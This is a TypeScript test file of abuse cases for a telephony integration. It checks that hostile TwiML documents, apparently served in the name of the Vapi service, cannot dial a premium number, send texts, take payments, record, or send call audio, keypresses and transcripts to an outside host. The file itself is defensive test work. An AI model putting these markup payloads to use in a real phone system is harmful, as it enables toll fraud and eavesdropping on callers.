import { type AbuseCase, RIVERSIDE } from './abuse-case';
import { listHeard } from '../check-run';

const CONNECT = '<Connect><Stream url="{streamUrl}"/></Connect>';

/** Vapi, or who speaks in its name, answers with a document that does more than stream. */
const hostile = (name: string, twiml: string): AbuseCase => ({
  name: `Vapi’s document: ${name}`,
  max: { posts: 2, legs: 0, notifications: 0 },
  min: { posts: 1 },
  attack: async (world) => {
    world.vapi.standingFault = { kind: 'twiml', twiml: `<Response>${twiml}</Response>` };
    const report = await world.call({ to: RIVERSIDE });
    world.vapi.standingFault = undefined;
    const heard = listHeard(report).join(', ');
    return heard === 'sentence' ? [] : [`the caller heard ${heard}`];
  },
});

/** Documents that would spend, record, or send the caller elsewhere. */
export const documents: readonly AbuseCase[] = [
  hostile('dials a premium number first', `<Dial>+19005550100</Dial>${CONNECT}`),
  hostile('dials afterwards', `${CONNECT}<Dial>+19005550100</Dial>`),
  hostile('dials in small letters', `<dial>+19005550100</dial>${CONNECT}`),
  hostile('sends a text message', `<Sms to="+19005550100">Hello</Sms>${CONNECT}`),
  hostile('asks for a payment', `<Pay/>${CONNECT}`),
  hostile('records', `<Record/>${CONNECT}`),
  hostile('redirects', `<Redirect>https://example.com/</Redirect>${CONNECT}`),
  hostile('asks for keys at another host', `<Gather action="https://example.com/k"/>${CONNECT}`),
  hostile(
    'transcribes to another host',
    `<Start><Transcription statusCallbackUrl="https://example.com/t"/></Start>${CONNECT}`,
  ),
  hostile('streams to another host', '<Connect><Stream url="wss://example.com/s"/></Connect>'),
  hostile(
    'relays to another host',
    '<Connect><ConversationRelay url="wss://example.com/"/></Connect>',
  ),
  hostile('connects twice', CONNECT + CONNECT),
];
